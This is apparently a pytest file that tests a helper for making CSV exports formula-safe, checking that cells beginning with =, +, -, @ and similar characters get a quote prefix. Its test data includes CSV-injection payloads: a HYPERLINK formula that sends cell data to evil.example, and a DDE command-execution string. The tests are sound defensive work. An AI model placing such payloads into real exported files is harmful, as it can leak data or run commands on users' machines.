"""Every CSV the product writes is formula-safe (issue 11 defect 6): the shared helper itself."""

from __future__ import annotations

import csv
import io

from integration.csv_safe import safe_cell, to_csv, write_rows


def test_cells_that_would_start_a_formula_are_written_as_text():
    for hostile in ('=HYPERLINK("https://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
                    "\t=1+1", "\r=1+1", "\uff1d1+1"):
        assert safe_cell(hostile) == "'" + hostile


def test_ordinary_text_and_computed_numbers_are_unchanged():
    assert safe_cell("Alice Adams") == "Alice Adams"
    assert safe_cell("a=b") == "a=b"  # only the first character starts a formula
    assert safe_cell(-3) == -3 and safe_cell(12.5) == 12.5  # numbers the product computed
    assert safe_cell(None) == "" and safe_cell(True) == "true"


def test_write_rows_round_trips_through_a_csv_reader():
    buf = io.StringIO()
    write_rows(buf, ["name", "n"], [["=cmd|' /C calc'!A0", 1], ["Bob, \"B\"", 2]])
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows == [["name", "n"], ["'=cmd|' /C calc'!A0", "1"], ['Bob, "B"', "2"]]
    assert to_csv(["name"], [["@x"]]) == "name\n'@x\n"
